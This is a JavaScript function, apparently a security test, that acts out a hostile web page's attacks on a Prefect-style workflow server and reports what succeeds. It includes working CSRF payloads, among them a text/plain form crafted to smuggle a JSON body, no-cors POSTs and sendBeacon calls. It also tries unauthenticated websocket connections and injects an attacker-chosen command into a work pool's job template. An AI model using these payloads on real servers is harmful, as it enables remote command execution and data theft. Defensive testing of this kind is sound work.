// What a hostile page tries against the server at `root`; resolves to {attempt: "nothing" or what it got}.
async (root, aims) => {
  const api = `${root}/api`;
  const start = { job_variables: { command: aims.command }, state: { type: "SCHEDULED" } };
  const told = {};
  const attempt = async (name, deed) => {
    try {
      told[name] = (await deed()) || "nothing";
    } catch (error) {
      told[name] = "nothing";
    }
  };
  const json = { method: "POST", headers: { "Content-Type": "application/json" } };
  // What a script can read of an answer; the page of a refusal (401, 403) tells nothing.
  const read = async (path, options) => {
    const answer = await fetch(`${api}${path}`, options);
    return answer.ok ? `${path}: ${(await answer.text()).slice(0, 200)}` : "nothing";
  };

  await attempt("list", () => read("/deployments/filter", { ...json, body: "{}" }));
  await attempt("list with cookies", () => read("/deployments/filter", { ...json, body: "{}", credentials: "include" }));
  await attempt("settings", () => read("/admin/settings", {}));
  await attempt("start", () => read(`/deployments/${aims.deployment}/create_flow_run`, { ...json, body: JSON.stringify(start) }));
  await attempt("resume", () => read(`/flow_runs/${aims.paused}/resume`, { ...json, body: "{}" }));
  await attempt("set a state", () =>
    read(`/flow_runs/${aims.paused}/set_state`, { ...json, body: JSON.stringify({ state: { type: "RUNNING" }, force: true }) }));
  await attempt("an emptied login", () =>
    read("/deployments/filter", { ...json, headers: { ...json.headers, Authorization: "Basic Og==" }, body: "{}" }));
  await attempt("a command for the pool", () =>
    read("/work_pools/posthorn", {
      ...json,
      method: "PATCH",
      body: JSON.stringify({ base_job_template: { job_configuration: { command: aims.command }, variables: {} } }),
    }));

  // Blind: the answer cannot be read, what was done would be done all the same.
  const blind = (path, type, body) =>
    fetch(`${api}${path}`, { method: "POST", mode: "no-cors", headers: { "Content-Type": type }, body: body }).then(() => "");
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    await attempt(`start, as ${type}`, () =>
      blind(`/deployments/${aims.deployment}/create_flow_run`, type, JSON.stringify(start)));
    await attempt(`resume, as ${type}`, () => blind(`/flow_runs/${aims.paused}/resume`, type, "{}"));
  }
  await attempt("start, without a type", () =>
    fetch(`${api}/deployments/${aims.deployment}/create_flow_run`, {
      method: "POST",
      mode: "no-cors",
      body: new Blob([JSON.stringify(start)]),
    }).then(() => ""));
  await attempt("a beacon", async () => {
    navigator.sendBeacon(`${api}/deployments/${aims.deployment}/create_flow_run`, JSON.stringify(start));
  });
  await attempt("a form", async () => {
    const frame = document.createElement("iframe");
    frame.name = "into";
    document.body.append(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.enctype = "text/plain";
    form.target = "into";
    form.action = `${api}/deployments/${aims.deployment}/create_flow_run`;
    const input = document.createElement("input");
    // The body becomes {"job_variables": {…}, "state": …, "idempotency_key": "="}
    input.name = `${JSON.stringify(start).slice(0, -1)}, "idempotency_key": "`;
    input.value = '"}';
    form.append(input);
    document.body.append(form);
    const loaded = new Promise((done) => frame.addEventListener("load", done, { once: true }));
    form.submit();
    await Promise.race([loaded, new Promise((done) => setTimeout(done, 3000))]);
  });

  // A websocket asks for no leave of another origin.
  const talk = (path, words, protocols) =>
    new Promise((done) => {
      const socket = new WebSocket(`${api.replace("http", "ws")}${path}`, protocols);
      socket.onopen = () => words.forEach((word) => socket.send(JSON.stringify(word)));
      socket.onmessage = (message) => done(`${path}: ${message.data}`.slice(0, 200));
      socket.onclose = socket.onerror = () => done("nothing");
      setTimeout(() => done("nothing"), 5000);
    });
  const filter = { type: "filter", filter: { occurred: { since: "2020-01-01T00:00:00Z" } }, backfill: true };
  for (const token of ["", null, "guess"]) {
    for (const path of ["/events/out", "/logs/out", "/work_pools/posthorn/workers/connect"]) {
      await attempt(`${path} as ${token}`, () => talk(path, [{ type: "auth", token: token }, filter], ["prefect"]));
    }
  }
  await attempt("events without a word", () => talk("/events/out", [filter], []));
  return told;
}
